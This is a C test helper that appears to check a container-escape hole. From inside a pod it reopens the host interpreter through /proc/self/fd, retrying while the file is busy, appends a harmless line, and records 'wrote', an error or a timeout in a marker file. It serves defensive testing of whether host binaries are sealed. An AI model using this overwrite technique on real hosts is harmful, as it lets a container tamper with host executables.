/* attack-writer FD KIND: exe_attack.so's second half, a static program of the image.

   FD is the attacker's descriptor of the interpreter it was run as (/proc/self/exe). Reopen it
   for writing through /proc/self/fd/FD until no process runs the file (ETXTBSY until then) and
   append a line, or until another error or TIMEOUT_SECONDS; then record the outcome in
   /markers/KIND: "wrote" (the host interpreter was changed), or the error (sealed: EROFS). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define TIMEOUT_SECONDS 20
#define RETRY_NANOSECONDS 20000000L

static void record(const char *kind, const char *outcome) {
    char path[128];
    snprintf(path, sizeof path, "/markers/%s", kind);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0)
        return;
    dprintf(fd, "%s\n", outcome);
    close(fd);
}

int main(int argc, char **argv) {
    if (argc != 3)
        return 2;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%s", argv[1]);
    const struct timespec pause = {0, RETRY_NANOSECONDS};
    time_t deadline = time(NULL) + TIMEOUT_SECONDS;
    while (time(NULL) < deadline) {
        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd >= 0) {
            const char line[] = "\n# overwritten from inside a pod\n";
            ssize_t written = write(fd, line, sizeof line - 1);
            close(fd);
            record(argv[2], written > 0 ? "wrote" : "opened");
            return 0;
        }
        if (errno != ETXTBSY) {
            record(argv[2], strerror(errno));
            return 0;
        }
        nanosleep(&pause, NULL);
    }
    record(argv[2], "timeout");
    return 0;
}
